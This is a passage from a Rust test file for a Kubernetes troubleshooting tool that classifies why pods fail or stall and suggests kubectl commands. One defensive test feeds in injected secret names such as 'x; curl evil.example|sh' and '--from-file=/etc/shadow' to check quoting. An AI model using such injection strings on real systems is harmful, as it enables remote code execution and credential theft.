                "rpc error: code = Unknown desc = failed to pull and unpack image \"r.local/web:1\": failed to resolve reference \"r.local/web:1\": failed to do request: Head \"https://r.local/v2/web/manifests/1\": tls: failed to verify certificate: x509: certificate signed by unknown authority",
            ),
            vec![],
            CauseClass::RegistryTls,
        ),
        (
            pull(
                "InvalidImageName",
                "Failed to apply default image tag \"Web:1\": couldn't parse image reference \"Web:1\": invalid reference format: repository name must be lowercase",
            ),
            vec![],
            CauseClass::InvalidImageName,
        ),
        (
            pull(
                "ErrImageNeverPull",
                "Container image \"web:1\" is not present with pull policy of Never",
            ),
            vec![],
            CauseClass::ImageNeverPull,
        ),
        (back_off(), vec![], CauseClass::PullUnknown),
        (crash("OOMKilled", 137), vec![], CauseClass::OomKilled),
        (crash("Error", 2), vec![], CauseClass::ExitCode),
        (crash("Completed", 0), vec![], CauseClass::ExitZero),
        (crash("Error", 137), vec![probe], CauseClass::ProbeFailed),
        (
            deployment_pod("web-1")
                .waiting("CrashLoopBackOff")
                .restart_count(5),
            vec![],
            CauseClass::CrashUnknown,
        ),
        (
            config("secret \"db\" not found"),
            vec![],
            CauseClass::MissingSecret,
        ),
        (
            config("configmap \"app\" not found"),
            vec![],
            CauseClass::MissingConfigMap,
        ),
        (
            config("couldn't find key url in ConfigMap shop/app"),
            vec![],
            CauseClass::MissingKey,
        ),
        (
            config("failed to sync configmap cache: timed out waiting for the condition"),
            vec![],
            CauseClass::ConfigUnknown,
        ),
        (
            verdict(
                "0/3 nodes are available: 3 Insufficient memory. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod.",
            ),
            vec![],
            CauseClass::InsufficientResources,
        ),
        (
            verdict(
                "0/3 nodes are available: 3 node(s) had untolerated taint {dedicated: db}. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            ),
            vec![],
            CauseClass::UntoleratedTaint,
        ),
        (
            verdict(
                "0/3 nodes are available: 3 node(s) didn't match Pod's node affinity/selector. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            ),
            vec![],
            CauseClass::NodeAffinity,
        ),
        (
            verdict(
                "0/3 nodes are available: 3 node(s) didn't find available persistent volumes to bind. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            ),
            vec![],
            CauseClass::UnboundVolume,
        ),
        (
            verdict(
                "0/3 nodes are available: 3 node(s) were unschedulable. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            ),
            vec![],
            CauseClass::UnschedulableNodes,
        ),
        (
            verdict(
                "0/3 nodes are available: 3 Too many pods. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod.",
            ),
            vec![],
            CauseClass::TooManyPods,
        ),
        (verdict(""), vec![], CauseClass::NotScheduled),
        (
            verdict("Scheduling is blocked due to non-empty scheduling gates"),
            vec![],
            CauseClass::PendingUnknown,
        ),
        (
            evicted(
                "The node was low on resource: memory. Threshold quantity: 100Mi, available: 91340Ki. ",
            ),
            vec![],
            CauseClass::NodeMemoryPressure,
        ),
        (
            evicted(
                "The node had condition: [DiskPressure]. The node was low on resource: inodes. ",
            ),
            vec![],
            CauseClass::NodeDiskPressure,
        ),
        (
            evicted(
                "The node was low on resource: pids. Threshold quantity: 1000, available: 98. ",
            ),
            vec![],
            CauseClass::NodePidPressure,
        ),
        (
            evicted(
                "Pod ephemeral local storage usage exceeds the total limit of containers 1Gi. ",
            ),
            vec![],
            CauseClass::ContainerLimit,
        ),
        (
            evicted("Evicted by an operator"),
            vec![],
            CauseClass::EvictedUnknown,
        ),
        (
            deleting().finalizers(&["example.com/backup"]),
            vec![],
            CauseClass::Finalizers,
        ),
        (
            deleting().phase("Running", Some("NodeLost")),
            vec![],
            CauseClass::NodeUnreachable,
        ),
        (
            deleting().condition(
                "DisruptionTarget",
                "True",
                "DeletionByPodGC",
                "PodGC: node no longer exists",
            ),
            vec![],
            CauseClass::NodeGone,
        ),
        (deleting(), vec![], CauseClass::PastGrace),
        (
            deployment_pod("web-1").phase("Failed", Some("DeadlineExceeded")),
            vec![],
            CauseClass::DeadlineExceeded,
        ),
        (
            deployment_pod("web-1").failed_with(1),
            vec![],
            CauseClass::ExitCode,
        ),
        (
            deployment_pod("web-1").phase("Failed", None),
            vec![],
            CauseClass::FailedUnknown,
        ),
        (
            deployment_pod("web-1").failed_with(137).condition(
                "DisruptionTarget",
                "True",
                "EvictionByEvictionAPI",
                "Eviction API: evicting",
            ),
            vec![],
            CauseClass::EvictedByApi,
        ),
        (
            deleting().condition(
                "DisruptionTarget",
                "True",
                "DeletionByTaintManager",
                "Taint manager: deleting due to NoExecute taint",
            ),
            vec![],
            CauseClass::NoExecuteTaint,
        ),
    ];
    let not_ready = || {
        deployment_pod("web-1").on_node("node-7").condition(
            "Ready",
            "False",
            "ContainersNotReady",
            "containers with unready status: [app]",
        )
    };
    let creating = || not_ready().waiting_with("ContainerCreating", "");
    let starting: Vec<(PodBuilder, Vec<PodEvent>, CauseClass)> = vec![
        (
            creating(),
            vec![warning(
                EventKind::FailedMount,
                "MountVolume.SetUp failed for volume \"data\" : mount failed: exit status 32",
                1,
            )],
            CauseClass::VolumeMount,
        ),
        (
            creating(),
            vec![warning(
                EventKind::FailedAttach,
                "AttachVolume.Attach failed for volume \"pvc-1\" : rpc error: code = Internal desc = Could not attach volume",
                1,
            )],
            CauseClass::VolumeAttach,
        ),
        (
            creating(),
            vec![warning(
                EventKind::SandboxFailed,
                "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network",
                1,
            )],
            CauseClass::PodSandbox,
        ),
        (creating(), vec![], CauseClass::StartingUnknown),
        (
            deployment_pod("web-1")
                .on_node("node-7")
                .init_running("migrate"),
            vec![],
            CauseClass::InitRunning,
        ),
        (
            not_ready(),
            vec![warning(
                EventKind::ReadinessFailed,
                "Readiness probe failed: HTTP probe failed with statuscode: 503",
                1,
            )],
            CauseClass::ReadinessProbe,
        ),
    ];
    // What the v1.24 kubelet writes on a pod it fails itself (pkg/kubelet/lifecycle,
    // preemption, nodeshutdown).
    let failed_by_kubelet = |reason: &str, message: &str| {
        deployment_pod("web-1")
            .on_node("node-7")
            .phase("Failed", Some(reason))
            .status_message(message)
    };
    let kubelet: Vec<(PodBuilder, Vec<PodEvent>, CauseClass)> = [
        ("OutOfcpu", "Pod Node didn't have enough resource: cpu, requested: 4000, used: 3500, capacity: 4000", CauseClass::RejectedResources),
        ("OutOfmemory", "Pod Node didn't have enough resource: memory, requested: 4294967296, used: 3221225472, capacity: 4294967296", CauseClass::RejectedResources),
        ("NodeAffinity", "Predicate NodeAffinity failed", CauseClass::RejectedNodeAffinity),
        ("NodeName", "Predicate NodeName failed", CauseClass::RejectedNodeName),
        ("NodePorts", "Predicate NodePorts failed", CauseClass::RejectedNodePorts),
        ("PodOSSelectorNodeLabelDoesNotMatch", "Failed to admit pod as the `kubernetes.io/os` label doesn't match node label", CauseClass::RejectedOs),
        ("UnexpectedAdmissionError", "Allocate failed due to no healthy devices present; cannot allocate unhealthy devices nvidia.com/gpu, which is unexpected", CauseClass::RejectedUnexpected),
        ("Preempting", "Preempted in order to admit critical pod", CauseClass::Preempted),
        ("Terminated", "Pod was terminated in response to imminent node shutdown.", CauseClass::NodeShutdown),
        ("TaintToleration", "Predicate TaintToleration failed", CauseClass::RejectedTaint),
        ("SysctlForbidden", "forbidden sysctl: \"net.core.somaxconn\" not allowlisted", CauseClass::RejectedFeature),
    ]
    .into_iter()
    .map(|(reason, message, class)| (failed_by_kubelet(reason, message), vec![], class))
    .collect();
    // Phase Unknown with no word from its node: no node cause without the node's evidence.
    // And runc's words when it cannot start the process (containerd's wrapping).
    let runc = |program: &str, why: &str| {
        format!(
            "failed to create containerd task: failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: exec: \"{program}\": {why}: unknown"
        )
    };
    let lost = vec![
        (
            deployment_pod("web-1")
                .on_node("node-7")
                .phase("Unknown", None),
            vec![],
            CauseClass::PodUnknown,
        ),
        (
            pull("CreateContainerError", &runc("/app", "permission denied")),
            vec![],
            CauseClass::ExecPermission,
        ),
        (
            crash("Error", 128).waiting_with(
                "RunContainerError",
                &runc("app", "executable file not found in $PATH"),
            ),
            vec![],
            CauseClass::ExecNotFound,
        ),
    ];
    let mut reached = std::collections::BTreeSet::new();
    for (builder, events, expected) in cases.into_iter().chain(starting).chain(kubelet).chain(lost)
    {
        let (class, cause) = told(builder, &events);
        assert_eq!(class, expected, "{cause:?}");
        assert!(!cause.next.is_empty(), "{cause:?}");
        reached.insert(class);
    }
    // A pod stuck on a node that reports, and says it is not ready: the node's own word.
    let not_ready = opc_core::node::NodeState {
        name: "sim-node-1".into(),
        readiness: opc_core::node::Readiness::NotReady,
        since: Some(now() - chrono::Duration::minutes(5)),
        heartbeat: Some(now()),
        out_of_service: false,
    };
    let pod = record(deleting().on_node("sim-node-1"));
    let finding = classify(&pod, &default_chain(), now()).expect("abnormal");
    let told = cause(&pod, &finding, &[], Some(&not_ready), now());
    assert_eq!(told.class, CauseClass::NodeNotReady, "{told:?}");
    reached.insert(told.class);
    let missing: Vec<&str> = CauseClass::ALL
        .iter()
        .filter(|c| !reached.contains(c))
        .map(|c| c.name())
        .collect();
    assert!(missing.is_empty(), "no case reaches {missing:?}");
}

/// `scan` where the account may not read Events: the pods are still classed, from their
/// status, and a note says once why the causes say less.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scan_without_leave_to_read_events_says_so_once_and_still_classes() {
    use support::contexts::{Scratch, run, stderr};
    let sim = kube_sim::SimCluster::new();
    sim.faults().deny("list", "events", None);
    sim.create_pod(in_back_off("web-1", "nginx:1.25"));
    sim.create_pod(support::sim::typed(
        deployment_pod("api-1")
            .crash_looping(7, "OOMKilled")
            .exit_code(137)
            .json(),
    ));
    let server = kube_sim::SimServer::start(sim.clone()).await.unwrap();
    let scratch = Scratch::new(
        &[("east", &server)],
        "rules:\n  - {rule: imagePull, after: 0}\n  - {rule: crashLoop, after: 0}\n",
    );
    let out = run(scratch.args(&["scan", "-o", "json"])).await;
    let said = stderr(&out);
    assert_eq!(
        said.matches("pods' Events cannot be read").count(),
        1,
        "{said}"
    );
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let class = |name: &str| {
        rows.iter()
            .find(|r| r["name"] == name)
            .map(|r| r["cause"]["class"].clone())
    };
    assert_eq!(class("web-1"), Some(serde_json::json!("pullUnknown")));
    assert_eq!(class("api-1"), Some(serde_json::json!("oomKilled")));
}

/// What the kubelet or an Event quotes was written by a tenant: a next step that names it is
/// a command the engineer may paste, so the name is quoted as a shell needs, or no command
/// is suggested.
#[test]
fn a_suggested_command_quotes_what_a_tenant_wrote_or_suggests_none() {
    let missing = |name: &str| {
        let message = format!("secret \"{name}\" not found");
        class_of(deployment_pod("web-1").waiting_with("CreateContainerConfigError", &message)).1
    };
    let quoted = missing("x; curl evil.example|sh");
    assert_eq!(quoted.class, CauseClass::MissingSecret);
    assert!(
        quoted
            .next
            .contains("kubectl create secret 'x; curl evil.example|sh' -n shop"),
        "{quoted:?}"
    );
    for unsafe_name in [
        "x\n$(curl evil.example)",
        "--from-file=/etc/shadow",
        "a\u{1b}[2J",
    ] {
        let cause = missing(unsafe_name);
        assert!(
            !cause.next.contains("kubectl create") && !cause.next.contains(unsafe_name),
            "{cause:?}"
        );
    }
    let plain = missing("db-creds");
    assert!(
        plain
            .next
            .contains("kubectl create secret db-creds -n shop"),
        "{plain:?}"
    );
}

/// Scheduled, and not up for hours: what kubernetes-mixin pages for (`KubeContainerWaiting`,
/// `KubePodNotReady`), each with the kubelet's own words (pkg/kubelet/volumemanager,
/// kuberuntime_sandbox.go, prober). Before, none of them was listed at all.
#[test]
fn the_pods_an_engineer_is_paged_for_are_listed_as_starting_with_why() {
    let on_node = |name: &str| deployment_pod(name).on_node("node-7");
    let not_ready = "containers with unready status: [app]";
    let creating = || {
        on_node("web-1")
            .waiting_with("ContainerCreating", "")
            .condition("Ready", "False", "ContainersNotReady", not_ready)
    };
    let mount = warning(
        EventKind::FailedMount,
        "MountVolume.SetUp failed for volume \"config\" : configmap \"app-config\" not found",
        1,
    );
    let sandbox = warning(
        EventKind::SandboxFailed,
        "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"4c1f\": plugin type=\"calico\" failed (add): error getting ClusterInformation: connection is unauthorized: Unauthorized",
        1,
    );
    let readiness = warning(
        EventKind::ReadinessFailed,
        "Readiness probe failed: Get \"http://10.0.0.7:8080/ready\": dial tcp 10.0.0.7:8080: connect: connection refused",
        1,
    );
    let cases: Vec<(PodBuilder, Vec<PodEvent>, &str, CauseClass)> = vec![
        (
            creating(),
            vec![mount],
            "ContainerCreating",
            CauseClass::MissingConfigMap,
        ),
        (
            creating(),
            vec![sandbox],
            "ContainerCreating",
            CauseClass::PodSandbox,
        ),
        (
            creating(),
            vec![],
            "ContainerCreating",
            CauseClass::StartingUnknown,
        ),
        (
            on_node("web-1").init_running("migrate"),
            vec![],
            "Init:0/1",
            CauseClass::InitRunning,
        ),
        (
            on_node("web-1").condition("Ready", "False", "ContainersNotReady", not_ready),
            vec![readiness],
            "NotReady",
            CauseClass::ReadinessProbe,
        ),
    ];
    for (builder, events, reason, class) in cases {
        let pod = record(builder);
        let finding = classify(&pod, &default_chain(), now()).expect("listed");
        assert_eq!(finding.rule, opc_core::rules::RuleKind::Starting, "{pod:?}");
        assert_eq!(&*finding.reason, reason);
        let told = cause(&pod, &finding, &events, None, now());
        assert_eq!(told.class, class, "{told:?}");
        // How long, as the kubelet's condition (or the start) says: hours here.
        assert!(
            told.detail.contains(" for 2h") || told.detail.contains(" for 3h"),
            "{told:?}"
        );
        assert!(!told.next.is_empty(), "{told:?}");
        if !events.is_empty() {
            assert!(!told.evidence.is_empty(), "the Event is cited: {told:?}");
        }
    }
    // Not yet: ten minutes is a slow start, not a page.
    let young = record(
        on_node("web-1")
            .waiting_with("ContainerCreating", "")
            .condition("Ready", "False", "ContainersNotReady", not_ready),
    );
    let early = "2026-11-20T10:10:00Z".parse().unwrap();
    assert_eq!(classify(&young, &default_chain(), early), None);
    // Ready, or not yet bound to a node: not this category.
    let ready = record(on_node("web-1").condition("Ready", "True", "", ""));
    assert_eq!(classify(&ready, &default_chain(), now()), None);
}

/// REASON as kubectl's STATUS column prints it (pkg/printers/internalversion/printers.go),
/// never less specific: an init container's reason behind `Init:`, an exit without a reason
/// as `ExitCode:N`; and an OOM kill is one whatever the restart policy.
#[test]
fn reasons_read_as_kubectl_prints_them() {
    let on_node = || deployment_pod("web-1").on_node("node-7");
    let waiting =
        |reason: &str| serde_json::json!({"waiting": {"reason": reason, "message": "back-off"}});
    let cases = [
        (
            on_node().init_in("migrate", waiting("CrashLoopBackOff"), 7),
            "Init:CrashLoopBackOff",
        ),
        (
            on_node().init_in("migrate", waiting("ImagePullBackOff"), 0),
            "Init:ImagePullBackOff",
        ),
        (
            deployment_pod("web-1").failed_with(2).terminated_reason(""),
            "ExitCode:2",
        ),
    ];
    for (builder, reason) in cases {
        let pod = record(builder);
        let finding = classify(&pod, &default_chain(), now()).expect("abnormal");
        assert_eq!(&*finding.reason, reason, "{pod:?}");
    }
    // restartPolicy Never: the pod fails with its container OOM-killed.
    let mut oom = deployment_pod("web-1")
        .failed_with(137)
        .memory_limit("256Mi");
    oom = oom.terminated_reason("OOMKilled");
    let (class, told) = class_of(oom);
    assert_eq!(class, CauseClass::OomKilled, "{told:?}");
    assert!(
        told.detail
            .contains("OOM-killed at its memory limit of 256"),
        "{told:?}"
    );
}

/// An eviction that names the node's condition instead of the resource it ran low on
/// (pkg/kubelet/eviction/helpers.go, `nodeConditionMessageFmt`) still says which pressure.
#[test]
fn an_eviction_by_node_condition_names_the_pressure() {
    let (class, told) = class_of(
        deployment_pod("web-1")
            .evicted()
            .status_message("The node had condition: [DiskPressure]. "),
    );
    assert_eq!(class, CauseClass::NodeDiskPressure, "{told:?}");
}

/// A pod in phase Unknown on a node that reports Ready: its node is fine, and the cause says
/// so rather than "stopped reporting" with no Node evidence.
#[test]
fn a_pod_unknown_on_a_node_that_reports_is_not_blamed_on_the_node() {
    let pod = record(
        deployment_pod("web-1")
            .on_node("node-7")
            .phase("Unknown", None),
    );
    let finding = classify(&pod, &default_chain(), now()).expect("abnormal");
    let ready = opc_core::node::NodeState {
        name: "node-7".into(),
        readiness: opc_core::node::Readiness::Ready,
        since: Some(now() - chrono::Duration::hours(1)),
        heartbeat: Some(now()),
        out_of_service: false,
    };
    let told = cause(&pod, &finding, &[], Some(&ready), now());
    assert_eq!(told.class, CauseClass::PodUnknown, "{told:?}");
    assert!(!told.detail.contains("stopped reporting"), "{told:?}");
}

/// A pod the kubelet failed itself, as the kubelet of each supported version writes it:
/// pkg/kubelet/lifecycle/predicate.go and the admit handlers of 1.24 to 1.33 (`TaintToleration`
/// for a NoExecute taint, `AppArmor`, `SysctlForbidden`, the sidecar and supplemental-group
/// checks, pod-level resources, node-declared features, the topology manager), and
/// pkg/kubelet/nodeshutdown (1.21's `Shutdown`; `NodeShutdown` for a pod it will not admit
/// while the node shuts down).
#[test]
fn every_kubelet_version_s_failed_reasons_have_a_cause_in_its_words() {
    let failed_by_kubelet = |reason: &str, message: &str| {
        deployment_pod("web-1")
            .on_node("node-7")
            .phase("Failed", Some(reason))
            .status_message(message)
    };
    let cases = [
        (
            "TaintToleration",
            "Predicate TaintToleration failed",
            CauseClass::RejectedTaint,
            "NoExecute taint",
        ),
        (
            "AppArmor",
            "Cannot enforce AppArmor: AppArmor is not enabled on the host",
            CauseClass::RejectedFeature,
            "feature",
        ),
        (
            "SysctlForbidden",
            "forbidden sysctl: \"net.core.somaxconn\" not allowlisted",
            CauseClass::RejectedFeature,
            "feature",
        ),
        (
            "InitContainerRestartPolicyForbidden",
            "Init container \"proxy\" may not have a non-default restartPolicy",
            CauseClass::RejectedFeature,
            "feature",
        ),
        (
            "SupplementalGroupsPolicyNotSupported",
            "SupplementalGroupsPolicy=Strict is not supported in this node",
            CauseClass::RejectedFeature,
            "feature",
        ),
        (
            "PodLevelResourcesNotSupported",
            "Pod-level resources are not supported on this node",
            CauseClass::RejectedFeature,
            "feature",
        ),
        (
            "PodFeatureUnsupported",
            "Pod requires node features that are not available",
            CauseClass::RejectedFeature,
            "feature",
        ),
        (
            "TopologyAffinityError",
            "Resources cannot be allocated with Topology locality",
            CauseClass::RejectedUnexpected,
            "could not admit",
        ),
        (
            "NodeShutdown",
            "Pod was rejected as the node is shutting down.",
            CauseClass::NodeShutdown,
            "rejected it as the node was shutting down",
        ),
        (
            "Shutdown",
            "Shutdown manager detected shutdown event",
            CauseClass::NodeShutdown,
            "terminated it as the node shut down",
        ),
    ];
    for (reason, message, expected, words) in cases {
        let (class, told) = class_of(failed_by_kubelet(reason, message));
        assert_eq!(class, expected, "{reason}: {told:?}");
        assert!(told.detail.contains(words), "{reason}: {told:?}");
        assert!(told.evidence.iter().any(|e| e.text == reason), "{told:?}");
    }
}

/// Kubernetes 1.26 and later say who disrupted a pod in its `DisruptionTarget` condition
/// (k8s.io/api/core/v1: `PreemptionByScheduler`, `DeletionByTaintManager`,
/// `EvictionByEvictionAPI`, `TerminationByKubelet`, `DeletionByPodGC`). A pod killed that way
/// ends with its containers' exit 137 and no reason of its own: the condition is the cause,
/// not "exited with 137 (SIGKILL)".
#[test]
fn a_disruption_target_condition_names_who_disrupted_the_pod() {
    let killed = |reason: &str, message: &str| {
        deployment_pod("web-1")
            .on_node("node-7")
            .failed_with(137)
            .condition("DisruptionTarget", "True", reason, message)
    };
    let cases = [
        (
            killed(
                "PreemptionByScheduler",
                "default-scheduler: preempting to accommodate a higher priority pod",
            ),
            CauseClass::Preempted,
            "the scheduler preempted it",
        ),
        (
            killed("EvictionByEvictionAPI", "Eviction API: evicting"),
            CauseClass::EvictedByApi,
            "Eviction API",
        ),
        (
            killed(
                "DeletionByTaintManager",
                "Taint manager: deleting due to NoExecute taint",
            ),
            CauseClass::NoExecuteTaint,
            "NoExecute taint",
        ),
        // The kubelet writes its reason on the status as well.
        (
            killed(
                "TerminationByKubelet",
                "Pod was terminated in response to imminent node shutdown.",
            )
            .phase("Failed", Some("Terminated"))
            .status_message("Pod was terminated in response to imminent node shutdown."),
            CauseClass::NodeShutdown,
            "node shut down",
        ),
        (
            killed("DeletionByPodGC", "PodGC: node no longer exists"),
            CauseClass::NodeGone,
            "no longer exists",
        ),
        // Stuck deleting, on a node whose state is not known: the taint manager's word.
        (
            deployment_pod("web-1")
                .on_node("node-7")
                .terminating_since("2026-11-20T10:00:00Z")
                .condition(
                    "DisruptionTarget",
                    "True",
                    "DeletionByTaintManager",
                    "Taint manager: deleting due to NoExecute taint",
                ),
            CauseClass::NoExecuteTaint,
            "NoExecute taint",
        ),
    ];
    for (builder, expected, words) in cases {
        let (class, told) = class_of(builder);
        assert_eq!(class, expected, "{told:?}");
        assert!(told.detail.contains(words), "{told:?}");
        assert!(
            told.evidence
                .iter()
                .any(|e| e.source == "status.conditions[DisruptionTarget]"),
            "{told:?}"
        );
    }
}
